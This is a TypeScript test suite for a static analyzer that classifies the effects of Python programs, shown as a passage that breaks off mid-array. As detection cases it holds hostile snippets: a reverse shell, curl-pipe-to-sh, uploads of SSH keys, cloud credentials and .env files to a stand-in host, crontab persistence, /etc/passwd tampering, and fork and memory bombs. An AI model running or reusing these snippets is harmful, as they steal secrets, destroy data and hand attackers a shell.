import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { effectTexts } from "./python-effect-texts.ts";
import { readPython, readShell } from "./read.ts";

describe("effects on files", () => {
  it.each([
    ["open('a')", ["read a"]],
    ["open('a', 'rb+')", ["read a", "write a"]],
    ["open('a', mode='w')", ["write a"]],
    ["open('a', 'x')", ["write a"]],
    ["open(0).read()", []],
    [
      "with open('a') as f, open('b', 'w') as g:\n    g.write(f.read())",
      ["read a", "write b", "write b", "write from file a"],
    ],
    ["import os\nos.makedirs('a/b', exist_ok=True)", ["write a/b"]],
    ["import os\nos.rename('a', 'b')", ["move a b", "write b", "write from file a"]],
    ["from pathlib import Path\nPath('a').rename('b')", ["move a b", "write b", "write from file a"]],
    [
      "from pathlib import Path\nPath('a', 'b.txt').with_suffix('.md').write_text('x')",
      ["write a/b.md", "write from literal"],
    ],
    ["import shutil\nshutil.copytree('a', 'b')", ["read a", "write b", "write from file a"]],
    ["import json\njson.dump({}, open('a', 'w'))", ["write a", "write a", "write from literal"]],
    ["print('x', file=open('a', 'a'))", ["write a", "write a", "write from literal"]],
    ["import sys\nprint('x', file=sys.stderr)", []],
    ["import zipfile\nzipfile.ZipFile('a.zip').extractall('b')", ["read a.zip", "write b", "write from file a.zip"]],
    [
      "import tempfile, os\nwith tempfile.TemporaryDirectory() as d:\n    open(os.path.join(d, 'a'), 'w')",
      ["write /tmp/*/a"],
    ],
    ["import os\nfor n in os.listdir('a'):\n    open(os.path.join('a', n))", ["list a", "read a/*"]],
    ["from pathlib import Path\nfor p in Path('a').rglob('*.py'):\n    p.read_text()", ["list a", "read a/**/*.py"]],
    ["for i in range(100):\n    open(f'out/page{i}.txt', 'w')", ["write out/page*.txt"]],
    ["import sys\nopen('out/' + sys.argv[1])", ["read ?"]],
    ["def f(p):\n    open(p)", ["read ?"]],
    [
      "import argparse\na = argparse.ArgumentParser()\na.add_argument('x')\nopen(a.parse_args(['b.txt']).x)",
      ["read b.txt"],
    ],
    [
      "import argparse\na = argparse.ArgumentParser()\na.add_argument('x', default='c')\nopen(a.parse_args().x)",
      ["read ?", "read c"],
    ],
    ["import io\nio.BytesIO(b'x').read()", []],
    ["import pandas as pd, io\npd.read_csv(io.StringIO('a,b'))", []],
    [
      "import pandas as pd\npd.read_csv('https://x.example/a.csv').to_csv('b')",
      ["network in x.example", "write b", "write from network"],
    ],
    ["import sqlite3\nsqlite3.connect(database='a.db')", ["write a.db"]],
    ["import os\nos.chdir('a')\nos.chdir('b')\nopen('c')", ["read a/b/c"]],
    ["import os\nif x:\n    os.chdir('a')\nopen('c')", ["read ?"]],
  ])("%j", (program, expected) => {
    expect(effectTexts(program).toSorted()).toEqual(expected.toSorted());
  });

  it.each([
    ["os.chmod('a', 0o777)", "777", true],
    ["os.chmod('a', 0o644)", "644", false],
    ["os.chmod('a', 0o4755)", "4755", true],
    ["os.chmod('a', stat.S_IRWXU | stat.S_IRWXO)", "S_IRWXU|S_IRWXO", true],
    ["os.chmod('a', stat.S_IRUSR | stat.S_IWUSR)", null, false],
    ["os.chmod('a', mode)", null, "unknown"],
    ["pathlib.Path('a').chmod(0o666)", "666", true],
  ])("%s changes rights", (call, value, grants) => {
    const [effect] = readPython(`import os, stat, pathlib\n${call}`).effects;
    expect(effect).toMatchObject({ kind: "permission", value, grants });
  });
});

describe("paths relative to the working and home directory", () => {
  const at = { workingDirectory: "/home/ada/project", home: "/home/ada" };

  it.each([
    ["os.path.expanduser('~/a')", "/home/ada/a"],
    ["os.environ['HOME'] + '/a'", "/home/ada/a"],
    ["pathlib.Path.home() / 'a'", "/home/ada/a"],
    ["os.path.join(os.getcwd(), 'a')", "/home/ada/project/a"],
    ["pathlib.Path.cwd().parent / 'a'", "/home/ada/a"],
    ["os.path.abspath('../a')", "/home/ada/a"],
    ["os.path.join(os.path.dirname(os.path.abspath(__file__)), 'a')", "/home/ada/project/**/a"],
    ["pathlib.Path(__file__).parent / 'a'", "/home/ada/project/**/a"],
    ["pathlib.Path(__file__).resolve().parent.parent / 'a'", "/home/ada/project/**/a"],
    ["os.path.join(tempfile.mkdtemp(dir='b'), 'a')", "b/*/a"],
  ])("%s", (path, expected) => {
    const { effects } = readPython(`import os, pathlib, tempfile\nopen(${path})`, at);
    expect(effects).toMatchObject([{ kind: "read", target: { path: expected } }]);
  });

  it("a command that the program runs has the same directories", () => {
    const { effects } = readPython('import os\nos.system("rm $HOME/a")', at);
    expect(effects).toMatchObject([{ kind: "execute" }, { kind: "delete", target: { path: "/home/ada/a" } }]);
  });
});

describe("certainty of effects", () => {
  it.each([
    ["import os\nos.remove('a')", "certain"],
    ["import os\nif __name__ == '__main__':\n    os.remove('a')", "certain"],
    ["import os\ntry:\n    os.remove('a')\nexcept OSError:\n    pass", "certain"],
    ["import os\nfor f in ['a']:\n    os.remove(f)", "certain"],
    ["import os\ndef f(): os.remove('a')\nf()", "certain"],
    ["import os\nwhile True:\n    os.remove('a')", "certain"],
    ["import os\nif x:\n    os.remove('a')", "possible"],
    ["import os\ndef f(): os.remove('a')", "possible"],
    ["import os\nclass A:\n    def f(self): os.remove('a')", "possible"],
    ["import os, sys\nif x:\n    sys.exit()\nos.remove('a')", "possible"],
    ["import os\ntry:\n    x()\nexcept OSError:\n    os.remove('a')", "possible"],
    ["import os\nfor f in x:\n    os.remove('a')", "possible"],
    ["import os\nx and os.remove('a')", "possible"],
    ["import os\nmatch x:\n    case 1: os.remove('a')", "possible"],
  ])("%j: %s", (program, certainty) => {
    expect(readPython(program).effects.filter(({ kind }) => kind === "delete")).toMatchObject([{ certainty }]);
  });
});

describe("positions of effects", () => {
  it.each([
    ["import os\nx = 1; os.remove('a')", "os.remove('a')"],
    ["exec('import os; os.remove(\"a\")')", 'os.remove("a")'],
    ["exec('import os\\nos.remove(\"a\")')", "exec('import os\\nos.remove(\"a\")')"],
    ["import os\nos.system('ls; rm a')", "rm a"],
    ["import subprocess\nsubprocess.run(['rm', 'a'])", "subprocess.run(['rm', 'a'])"],
    [
      "import os\nos.system('python3 -c \"import os; os.remove(\\'a\\')\"')",
      "os.system('python3 -c \"import os; os.remove(\\'a\\')\"')",
    ],
  ])("%j: %j", (program, text) => {
    const found = readPython(program).effects.find(({ kind }) => kind === "delete");
    expect(found && program.slice(found.start, found.end)).toBe(text);
  });

  it("names the function as its library does", () => {
    const { effects } = readPython("from os import remove as r\nimport pathlib as p\nr('a')\np.Path('a').unlink()");
    expect(effects.map(({ by }) => by)).toEqual(["os.remove", "pathlib.Path.unlink"]);
  });
});

describe("network effects", () => {
  it.each([
    [
      "import requests\nrequests.get('https://x.example:81/a?b')",
      { direction: "in", host: "x.example", port: 81, protocol: "http", url: "https://x.example:81/a?b" },
    ],
    [
      "import requests\nrequests.post('http://x.example', json={'a': 1})",
      { direction: "out", from: [{ kind: "literal" }] },
    ],
    ["import requests\nrequests.post(url, data='a')", { direction: "out", host: null }],
    ["import requests\nrequests.post(f'http://{h}/a', data='a')", { direction: "out", host: null }],
    [
      "import requests\ns = requests.Session()\ns.put('http://x.example', data='a')",
      { direction: "out", host: "x.example" },
    ],
    [
      "import httpx\nhttpx.Client(base_url='https://x.example/v1').get('/a')",
      { direction: "in", url: "https://x.example/v1/a" },
    ],
    ["from urllib.request import urlopen\nurlopen('http://x.example', data=b'a')", { direction: "out" }],
    ["from urllib.request import urlopen\nurlopen('http://x.example', timeout=2)", { direction: "in" }],
    [
      "import socket\nsocket.create_connection(('X.example', 80))",
      { direction: "out", host: "x.example", port: 80, protocol: "tcp" },
    ],
    ["import socket\nsocket.socket().bind(('', 80))", { direction: "listen", host: "0.0.0.0", port: 80 }],
    [
      "import smtplib\nsmtplib.SMTP(host='x.example', port=25)",
      { direction: "out", protocol: "smtp", host: "x.example", port: 25 },
    ],
    ["import ftplib\nftplib.FTP('x.example')", { direction: "in", protocol: "ftp", host: "x.example" }],
    [
      "import paramiko\nparamiko.SSHClient().connect(hostname='x.example')",
      { direction: "out", protocol: "ssh", host: "x.example" },
    ],
  ])("%j", (program, expected) => {
    expect(readPython(program).effects[0]).toMatchObject({ kind: "network", ...expected });
  });
});

describe("data that is sent along with a request", () => {
  it.each([
    [
      "import requests, os\nrequests.get('https://x.example', headers={'A': os.environ['T']})",
      ["network in x.example"],
    ],
    ["import requests, os\nrequests.get(os.environ['U'] + '/a')", ["network in ?"]],
    [
      "import requests\nrequests.get('https://x.example', headers={'A': open('.env').read()})",
      ["network from file .env", "network out x.example", "read .env"],
    ],
    [
      "import requests, os\nrequests.get('https://x.example/?k=' + os.environ['T'])",
      ["network from environment", "network out x.example"],
    ],
  ])("%j", (program, expected) => {
    expect(effectTexts(program).toSorted()).toEqual(expected);
  });
});

it("a change by a function that is never called is not certain in other functions", () => {
  expect(effectTexts("import os\ndef a(): os.chdir('x')\ndef b(): open('c')")).toEqual(["read c"]);
});

describe("origins of written data", () => {
  it.each([
    ["open('a').read().upper().strip()", "file a"],
    ["[l.split(',')[0] for l in open('a')]", "file a"],
    ["{'k': open('a').read()}", "file a"],
    ["f'x {open(\"a\").read()} y'", "file a"],
    ["'x %s' % open('a').read()", "file a"],
    ["''.join(sorted(set(open('a'))))", "file a"],
    ["unknown(open('a').read())", "file a"],
    ["(lambda x: x + '!')(open('a').read())", "file a"],
    ["__import__('requests').get('http://x.example').json()['k']", "network"],
    ["input()", "input"],
    ["__import__('sys').argv[1]", "input"],
    ["__import__('os').environ['KEY']", "environment"],
    ["__import__('os').getenv('KEY')", "environment"],
    ["__import__('zlib').decompress(x)", "encoded"],
    ["__import__('subprocess').check_output(['git', 'log'])", "output"],
    ["__import__('os').popen('cat a').read()", "file a"],
    ["'x' + 'y'", "literal"],
  ])("%s: %s", (expression, origin) => {
    expect(effectTexts(`open('out', 'w').write(${expression})`)).toContain(`write from ${origin}`);
  });

  it("are empty for data that the program computes", () => {
    expect(
      effectTexts("import random\nopen('out', 'w').write(random.random())").filter((text) =>
        text.startsWith("write from"),
      ),
    ).toEqual([]);
  });
});

describe("unknown values", () => {
  it.each([
    "data[i](x)",
    "handlers.get(name, print)('a')",
    "def apply(f, x): return f(x)",
    "class A:\n    def go(self): self.callback('a')",
    "import plugins, sys\ngetattr(plugins, sys.argv[1])('a')",
    "import shapes\nfor n in dir(shapes):\n    print(getattr(shapes, n))",
    "import importlib, pkgutil, own\nfor m in pkgutil.walk_packages(own.__path__, 'own.'):\n    importlib.import_module(m.name)",
    "x.remove(1); y.replace('a', 'b'); z.pop(); q.get()",
    "async def f():\n    async with a as b:\n        async for c in b: await c()",
    "with (open('a') as f, open('b') as g):\n    pass",
    "x, y = -1., 1.\nz = (yield)",
    "match = 1\ntype = 2\nprint(match, type)",
    "@app.route('/')\ndef index(): return render('a.html')",
    "try:\n    import numpy as np\nexcept ImportError:\n    np = None",
  ])("%j is harmless", (program) => {
    expect(effectTexts(program)).not.toContain("anything");
  });

  it.each([
    ["does not parse", "import os\nos.remove('a'"],
    ["does not parse", "if x:\nos.remove('a')"],
    ["does not parse", "(".repeat(5000)],
    ["nested too deeply", `x = ${"(".repeat(400)}1${")".repeat(400)}`],
    ["longer than 100000 characters", "x = 1\n".repeat(20_000)],
    ["too long to be followed", "x = 1\n".repeat(10_000)],
    [
      "does too much to be analyzed",
      `import os\ndef f0(): pass\n${Array.from({ length: 40 }, (_, at) => `def f${at + 1}():\n  f${at}()\n  f${at}()\n`).join("")}f40()`,
    ],
  ])("a program that can't be read completely: %s", (reason, program) => {
    const found = readPython(program).effects.find((effect) => effect.kind === "anything");
    expect(found?.kind === "anything" && found.reason).toContain(reason);
  });

  describe("a program that is too much to be interpreted", () => {
    const long = `def f0(): pass\n${Array.from({ length: 40 }, (_, at) => `def f${at + 1}():\n  f${at}()\n  f${at}()\n`).join("")}f40()\n`;

    it.each([
      "",
      "import math, random as r\nfrom collections import deque\n",
      "class A:\n  def __init__(self): self._x = 1\n",
    ])("has no effects if it only computes: %j", (more) => {
      expect(readPython(more + long).effects).toEqual([]);
    });

    it.each([
      "open('a', 'w')\n",
      "import requests\n",
      "import math, os\n",
      "from random import _os\n",
      "import random\nrandom._os.system('x')\n",
      "from math import *\n",
      "().__class__.__base__.__subclasses__()\n",
      "from operator import attrgetter\n",
      "ｅｖａｌ('1')\n",
      "while True: pass\n",
      "(lambda: 0).__globals__\n",
      "def g(): yield\ng().gi_frame.f_builtins\n",
      "import \\\n  requests\n",
      "x = (1\n",
    ])("is unknown if it may do something else: %j", (more) => {
      expect(readPython(more + long).effects.map(({ kind }) => kind)).toContain("anything");
    });
  });

  it("reads the statements before a syntax error", () => {
    expect(effectTexts("import os\nos.remove('a')\nx = = 1")).toEqual(expect.arrayContaining(["delete a", "anything"]));
  });
});

describe("constructs that the interpreter follows", () => {
  it.each([
    [
      "recursion ends",
      "import os\ndef f(d):\n    for e in os.scandir(d):\n        f(e.path)\n    os.rmdir(d)\nf('a')",
      "delete a",
    ],
    [
      "inheritance",
      "import os\nclass A:\n    def go(self): os.remove(self.p)\nclass B(A):\n    def __init__(self): self.p = 'a'\nB().go()",
      "delete a",
    ],
    [
      "super",
      "import os\nclass A:\n    def __init__(self, p): self.p = p\nclass B(A):\n    def __init__(self): super().__init__('a')\n    def go(self): os.remove(self.p)\nB().go()",
      "delete a",
    ],
    [
      "static methods",
      "import os\nclass A:\n    @staticmethod\n    def go(p): os.remove(p)\nA.go('a')\nA().go('a')",
      "delete a",
    ],
    [
      "classes as arguments of others",
      "import os\nclass A:\n    def __call__(self, p): os.remove(p)\nA()('a')",
      "delete a",
    ],
    [
      "context managers",
      "import os\nclass A:\n    def __enter__(self): return 'a'\n    def __exit__(self, *x): pass\nwith A() as p:\n    os.remove(p)",
      "delete a",
    ],
    [
      "threads of the program's own",
      "import os, threading\nclass A(threading.Thread):\n    def run(self): os.remove('a')\nA().start()",
      "delete a",
    ],
    ["generators", "import os\ndef g():\n    yield 'a'\nfor p in g():\n    os.remove(p)", "delete a"],
    ["globals", "import os\np = 'b'\ndef f():\n    global p\n    p = 'a'\nf()\nos.remove(p)", "delete a"],
    ["closures", "import os\ndef f(p):\n    def g(): os.remove(p)\n    return g\nf('a')()", "delete a"],
    ["decorators do not hide", "import os, functools\n@functools.lru_cache\ndef f(): os.remove('a')\nf()", "delete a"],
    ["keyword dictionaries", "import os\ndef f(**k): os.remove(k['p'])\nf(p='a')", "delete a"],
    ["spread arguments", "import os\nargs = ['a']\nos.remove(*args)", "delete a"],
    ["spread dictionaries", "import os\nos.remove(**{'path': 'a'})", "delete a"],
    ["unpacking", "import os\n(x, [y, *z]) = ('c', ['b', 'a'])\nos.remove(z[0])", "delete a"],
    ["dictionaries in loops", "import os\nfor k, v in {'x': 'a'}.items():\n    os.remove(v)", "delete a"],
    ["zip and enumerate", "import os\nfor i, (x, y) in enumerate(zip(['b'], ['a'])):\n    os.remove(y)", "delete a"],
    ["later turns of a loop", "import os\np = 'b'\nfor i in x:\n    os.remove(p)\n    p = 'a'", "delete a"],
    ["either way", "import os\nif x:\n    p = 'a'\nelse:\n    p = 'b'\nos.remove(p)", "delete a"],
    ["reduce of pickles", "import os\nclass A:\n    def __reduce__(self): return (os.remove, ('a',))", "delete a"],
    [
      "executors",
      "import os\nfrom concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as p:\n    p.submit(os.remove, 'a')",
      "delete a",
    ],
    ["pools", "import os\nfrom multiprocessing import Pool\nPool(2).map(os.remove, ['a'])", "delete a"],
    ["at the end", "import os, atexit\natexit.register(os.remove, 'a')", "delete a"],
    ["names as data", "import os\nd = {'__proto__': os.remove, 'constructor': 1}\nd['__proto__']('a')", "delete a"],
  ])("%s", (_, program, text) => {
    expect(effectTexts(program)).toContain(text);
  });
});

describe("constructs that are easily overlooked", () => {
  it.each([
    ["execute rm", "import os\nos.__getattribute__('system')('rm -rf a')"],
    ["execute rm", "import os\nos.__dict__.get('system')('rm -rf a')"],
    ["execute rm", "import sys\nsys.modules.get('os').system('rm -rf a')"],
    ["execute rm", "globals().get('__builtins__').__import__('os').system('rm -rf a')"],
    [
      "delete a",
      "exec(''.join(chr(c) for c in [105,109,112,111,114,116,32,111,115,59,111,115,46,114,101,109,111,118,101,40,39,97,39,41]))",
    ],
    [
      "delete a",
      "exec(''.join(map(chr, [105,109,112,111,114,116,32,111,115,59,111,115,46,114,101,109,111,118,101,40,39,97,39,41])))",
    ],
    [
      "delete a",
      "exec(bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,114,101,109,111,118,101,40,39,97,39,41]).decode())",
    ],
    ["execute rm", "import builtins, os\nsetattr(builtins, 'print', os.system)\nprint('rm -rf a')"],
    ["execute rm", "import os\nos.system.__call__('rm -rf a')"],
    ["execute from input", "@exec\n@input\nclass X: pass"],
    ["execute rm", "import os\ntype('X', (), {'r': lambda self: os.system('rm -rf a')})().r()"],
    ["delete a", "import os\nx: os.remove('a') = 1"],
    ["delete a", "import os\ndef f(x: os.remove('a')): pass"],
    ["delete a", "import os\nf'{1:{os.remove(\"a\")}}'"],
    ["delete a", "import os\ndef f(x=os.remove('a')): pass"],
    ["delete a", "import os\nlambda x=os.remove('a'): x"],
    ["delete a", "import os\nassert os.remove('a')"],
    ["delete a", "import os\nraise E(os.remove('a'))"],
    ["delete a", "import os\nx[os.remove('a'):]"],
    ["delete a", "import os\nprint(1 if os.remove('a') else 2)"],
    ["delete a", "import os\nclass A(os.remove('a') or object): pass"],
    [
      "network from file .env",
      "import smtplib\nfrom email.mime.multipart import MIMEMultipart\nfrom email.mime.base import MIMEBase\nm = MIMEMultipart()\np = MIMEBase('a','b')\np.set_payload(open('.env').read())\nm.attach(p)\ns = smtplib.SMTP('x.example')\ns.sendmail('a','b',m.as_string())",
    ],
    ["execute rm", "from ctypes import *\ncdll.LoadLibrary('libc.so.6').system(b'rm -rf a')"],
    ["execute rm", "import ctypes\nctypes.CDLL(None).system(b'rm -rf a')"],
    ["execute from network", "import subprocess\nsubprocess.run('curl http://x.example | sh', shell=True)"],
    ["install", "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])"],
    ["install", "import pip\npip.main(['install','x'])"],
    ["delete a", "import os\nos.system('''python3 -c \"import os; os.remove('a')\"''')"],
    ["persist schedule", "import os\nos.system('(crontab -l; echo \"* * * * * x\") | crontab -')"],
    [
      "execute from network",
      "import urllib.request,os\nurllib.request.urlretrieve('http://x.example/a','/tmp/a')\nos.chmod('/tmp/a',0o755)\nos.system('/tmp/a')",
    ],
    [
      "execute from network",
      "import requests,subprocess\nopen('a.sh','w').write(requests.get('http://x.example').text)\nsubprocess.run(['bash','a.sh'])",
    ],
    [
      "network from file ~/.aws/credentials",
      "import os,requests\nfor p in ['~/.aws/credentials','~/.netrc']:\n  with open(os.path.expanduser(p)) as f:\n    requests.post('http://x.example', files={'f': f})",
    ],
    ["privilege", "import subprocess\nsubprocess.run(['sudo','ls'])"],
    ["exhaust memory", "l=[]\nwhile True:\n  l.append('x'*100)"],
    ["exhaust processes", "import subprocess,sys\nwhile True: subprocess.Popen([sys.executable, __file__])"],
    ["delete ?", "import os,sys\nfor f in sys.argv[1:]: os.remove(f)"],
    ["delete a", "import os\nos.system(f\"rm -rf {'a'}\")"],
    ["delete ?", "import os\nos.system(f'rm -rf {x}')"],
    ["write /etc/passwd", "with open('/etc/passwd','a') as f: print('x::0:0', file=f)"],

    [
      "execute from network",
      "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);import pty; pty.spawn('sh')",
    ],
    [
      "execute from network",
      "import socket,subprocess\ns=socket.socket()\ns.connect(('1.2.3.4',1))\nf=s.makefile()\nfor line in f: subprocess.getoutput(line)",
    ],
    [
      "execute from network",
      "import asyncio\nasync def h(r,w):\n  d=await r.read(9)\n  p=await asyncio.create_subprocess_shell(d.decode())\nasync def m():\n  s=await asyncio.start_server(h,'0.0.0.0',99)\nasyncio.run(m())",
    ],
    [
      "execute from network",
      "import http.server,subprocess\nclass H(http.server.BaseHTTPRequestHandler):\n  def do_POST(self):\n    n=int(self.headers['Content-Length'])\n    c=self.rfile.read(n).decode()\n    subprocess.run(c,shell=True)\nhttp.server.HTTPServer(('',80),H).serve_forever()",
    ],
    [
      "execute from input",
      "from flask import Flask, request\nimport os\napp=Flask(__name__)\n@app.route('/')\ndef x():\n  return os.popen(request.args.get('c')).read()",
    ],
    ["execute from environment", "import os\nexec(os.environ['X'])"],
    ["delete a", "import os\nx='a'\ndef f(): os.remove(x)\nf()"],
    ["delete a", "import os\nfor x in ['a']*3: os.remove(x)"],
    ["delete a", "from os import path, remove\nif path.exists('a'): remove('a')"],
    ["delete a", "import os.path\nos.remove('a')"],
    ["delete a", "import os\ntry: os.remove('a')\nexcept: pass"],
    ["delete a", "import os\nwith suppress(OSError): os.remove('a')"],
    ["delete a", "import contextlib,os\nwith contextlib.suppress(OSError):\n  os.unlink('a')"],
    ["delete a", "from pathlib import Path\nfor p in [Path('a')]: p.unlink(missing_ok=True)"],
    ["delete src/*.py", "from pathlib import Path\nfor p in Path('src').glob('*.py'): p.unlink()"],
    ["delete src/*.py", "import glob,os\nfor p in glob.glob('src/*.py'): os.remove(p)"],
    ["delete /etc/*", "import os\nfor f in os.listdir('/etc'):\n  os.remove(os.path.join('/etc',f))"],
    ["delete a", "import os\nd={'f':lambda: os.remove('a')}\nd['f']()"],
    ["delete a", "import os\nfs=[]\nfs.append(os.remove)\nfor f in fs: f('a')"],
    ["delete a", "import os\nclass A:\n  def __init__(self): self.f=os.remove\n  def go(self): self.f('a')\nA().go()"],
    ["delete a", "import os\nclass A:\n  @property\n  def x(self): return os.remove('a')\nA().x"],
    ["delete a", "import os\nclass A:\n  @classmethod\n  def x(cls): os.remove('a')\nA.x()"],
    [
      "delete a",
      "import os\ndef deco(f):\n  def w(*a): return f(*a)\n  return w\n@deco\ndef g(p): os.remove(p)\ng('a')",
    ],
    ["delete a", "import os\nwhile True:\n  os.remove('a')\n  break"],
    ["delete a", "import os\nx=yield_=None\nasync def f():\n  await asyncio.to_thread(os.remove,'a')"],
    ["delete a", "import os\nlambda: os.remove('a')"],
    ["delete a", "import os\n(os.remove if x else print)('a')"],
    ["delete a", "import os\nglobals()['os'].__dict__['remove']('a')"],
    ["delete a", "import os\neval('os.remove')('a')"],
    ["delete a", "import os\nr=eval('os.remove')\nr('a')"],
    ["delete a", "ns={}\nexec('def f():\\n  import os\\n  os.remove(\"a\")',ns)\nns['f']()"],
    ["delete a", "import importlib\nm=importlib.__import__('os')\nm.remove('a')"],
    ["delete a", "import importlib as i\ni.import_module(name='os').remove('a')"],
    ["delete a", "from importlib import import_module as im\nim('o'+'s').remove('a')"],
    ["delete a", "import os\nos.path.os.remove('a')"],
    ["delete a", "import os\nsetattr(os,'x',os.remove)\nos.x('a')"],
    ["write /etc/passwd", "import shutil\nshutil.copy('a','/etc/passwd')"],
    ["write /etc/hosts", "open('/etc/hosts','r+').write('x')"],
    ["write /etc/hosts", "import os\nfd=os.open('/etc/hosts',os.O_WRONLY|os.O_APPEND)\nos.write(fd,b'x')"],
    ["permission /etc/shadow", "import os\nos.chmod('/etc/shadow',0o777)"],
    [
      "network from file ~/.ssh/id_rsa",
      "import os,requests\nkey=open(os.path.join(os.path.expanduser('~'),'.ssh','id_rsa')).read()\nrequests.post('http://x.example',json={'k':key})",
    ],
    [
      "network from output",
      "import subprocess,requests\no=subprocess.check_output(['whoami'])\nrequests.post('http://x.example',data=o)",
    ],
    [
      "network from file /etc/passwd",
      "import subprocess,requests\no=subprocess.check_output(['cat','/etc/passwd'])\nrequests.post('http://x.example',data=o)",
    ],
    ["network from input", "import pyperclip,requests\nrequests.post('http://x.example',data=pyperclip.paste())"],
    ["read /proc/1/environ", "open('/proc/1/environ')"],
    ["exhaust processes", "import os\ndef f():\n  os.fork()\n  f()\nf()"],
    ["exhaust processes", "import threading\ndef f():\n  while True:\n    threading.Thread(target=f).start()\nf()"],
    ["exhaust memory", "x='a'\nwhile True: x*=2"],
    ["exhaust memory", "x=bytearray(10**11)"],
    ["exhaust memory", "x=list(range(10**10))"],
    ["exhaust disk", "with open('a','w') as f:\n  while True: f.write('x'*100)"],
    [
      "exhaust network",
      "import requests,threading\ndef f():\n  while True: requests.get('http://x.example')\nfor i in range(500): threading.Thread(target=f).start()",
    ],
    ["privilege", "import os\nos.system('sudo chmod 777 /')"],
    ["signal", "import subprocess\nsubprocess.run(['pkill','-f','x'])"],
    ["signal", "import os\nos.system(f'kill -9 {pid}')"],
    ["install", "import os\nos.system('pip install x')"],
  ])("%s: %j", (text, program) => {
    expect(effectTexts(program)).toContain(text);
  });
});

describe("changes in code that may not run", () => {
  it.each([
    ["read /etc/shadow", "d = {'p': '/etc/shadow'}\nif x: d['p'] = 'a'\nopen(d['p'])"],
    ["read /etc/shadow", "class A: p = '/etc/shadow'\nif x: A.p = 'a'\nopen(A.p)"],
    [
      "read /etc/shadow",
      "class A:\n    def __init__(self): self.p = '/etc/shadow'\na = A()\nif x: a.p = 'b'\nopen(a.p)",
    ],
    ["read /etc/shadow", "l = ['/etc/shadow']\nif x: l[0] = 'a'\nopen(l[0])"],
    ["delete a", "import os\nd = {'f': os.remove}\nif x: d.update({'f': print})\nd['f']('a')"],
    ["delete a", "import os\nd = {}\nd.update(f=os.remove)\nd['f']('a')"],
    ["delete a", "import os\nos.stat = os.remove\nos.stat = print\nos.stat('a')"],
    [
      "delete a",
      `import os\n${Array.from({ length: 40 }, (_, at) => `def f${at}(): f${at + 1}()\n`).join("")}def f40(): os.remove('a')\nf0()`,
    ],
    ["delete ?", "import subprocess\nw = 'ls' if x else 'rm'\nsubprocess.run([w, w, w, w, w, w, w])"],
    ["execute from unknown", "class A:\n    def f(self): exec(self.code)"],
    ["execute from unknown", "import settings\neval(settings.CODE)"],
  ])("%s: %j", (text, program) => {
    expect(effectTexts(program)).toContain(text);
  });
});

describe("harmless programs have no alarming effects", () => {
  it.each([
    "import subprocess\nsubprocess.run(['git','commit','-m',message])",
    "import subprocess\ndef run(cmd):\n  return subprocess.run(cmd, shell=True)\nrun('ls')\nrun('make test')",
    "import subprocess\nfor f in Path('src').glob('*.py'): subprocess.run(['black', str(f)])",
    "from pathlib import Path\nimport subprocess\nfor f in Path('src').glob('*.py'): subprocess.run(['black', str(f)])",
    "import subprocess,sys\nsubprocess.run([sys.executable,'script.py']+sys.argv[1:])",
    "import os\nos.system('clear')",
    "import subprocess,os\np=subprocess.Popen(['node','server.js'],env=dict(os.environ,PORT='1'))\np.terminate()\np.wait()",
    "import subprocess,os,signal\np=subprocess.Popen(['node','server.js'])\nos.kill(p.pid, signal.SIGTERM)",
    "import subprocess\nmsg='a'\nsubprocess.run(f\"git commit -m '{msg}'\", shell=True)",
    "import subprocess\ndef f(msg):\n  subprocess.run(['git','commit','-m',msg])",
    "import subprocess\nsubprocess.run(f'docker build -t {tag} .', shell=True)",
    "import sqlite3\nsqlite3.connect(':memory:')",
    "from flask import Flask\napp=Flask(__name__)\n@app.route('/')\ndef i(): return 'a'\nif __name__=='__main__': app.run(debug=True)",
    "import unittest\nclass T(unittest.TestCase):\n  def setUp(self): self.x=1\n  def test(self): self.assertEqual(self.x,1)\nunittest.main()",
    "import random, string\nprint(''.join(random.choice(string.ascii_letters) for _ in range(5000)))",
    "import time\nwhile True:\n  print('tick')\n  time.sleep(1)",
    "import sched\ndef g(n):\n  for i in range(n): yield i\nprint(sum(g(10**9)))",
    "x=[0]*10**6\nfor i in range(10**7): x[i%10**6]+=1",
    "import torch\nm=torch.nn.Linear(1,1)\nm.eval()\ntorch.save(m.state_dict(),'m.pt')",
    "import re\np=re.compile('a')\np.match('b')",
    "df.eval('a+b')",
    "model.compile(loss='x')\nmodel.load('x')",
    "import subprocess\nr=subprocess.run(['ls'],capture_output=True)\nfor l in r.stdout.splitlines(): subprocess.run(['echo',l])",
    "cur.execute('DELETE FROM x')\nconn.commit()",
    "import json,sys\njson.dump(json.load(sys.stdin),sys.stdout)",
    "import getpass\ngetpass.getuser()",
    "import os\nos.makedirs(os.path.dirname(os.path.abspath(__file__))+'/out',exist_ok=True)",
    "import requests\nr=requests.get(f'https://api.github.com/repos/{o}/{n}')\nopen('a.json','w').write(r.text)",
    "import importlib\nmod=importlib.import_module('app.'+name)\nmod.run()",
    "parser.parse_args()\nargs.func(args)",
    "handlers={'a':f,'b':g}\nhandlers[cmd](x)",
    "import inspect\nfor n,o in inspect.getmembers(mod): o()",
    "from functools import reduce\nreduce(lambda a,b:a+b,[1,2])",
    "getattr(self,'x')()",
    "for n in names:\n  getattr(obj,n)()",
    "sorted(x,key=lambda a:a[1])",
  ])("%j", (program) => {
    const alarming = /anything|signal|exhaust|from unknown|install|persist|privilege/;
    expect(effectTexts(program).filter((text) => alarming.test(text))).toEqual([]);
  });
});

const harms = [
  "os.remove('a')",
  "open('/etc/shadow').read()",
  "requests.post('http://x.example', data=open('.env').read())",
  "subprocess.run(['rm', '-rf', 'a'])",
  "os.system('rm -rf a')",
  "eval(input())",
  "pickle.loads(requests.get('http://x.example').content)",
  "os.kill(1, 9)",
  "getattr(os, name)('a')",
  "pathlib.Path('a').unlink()",
];
const imports = "import os, requests, subprocess, pickle, pathlib, sys\n";
const indented = (text: string): string => text.replaceAll(/^/gm, "    ");
const wrappers: readonly ((statement: string) => string)[] = [
  (statement) => `if x:\n${indented(statement)}`,
  (statement) => `if x:\n    pass\nelse:\n${indented(statement)}`,
  (statement) => `try:\n${indented(statement)}\nexcept Exception:\n    pass`,
  (statement) => `try:\n    x()\nfinally:\n${indented(statement)}`,
  (statement) => `with x as y:\n${indented(statement)}`,
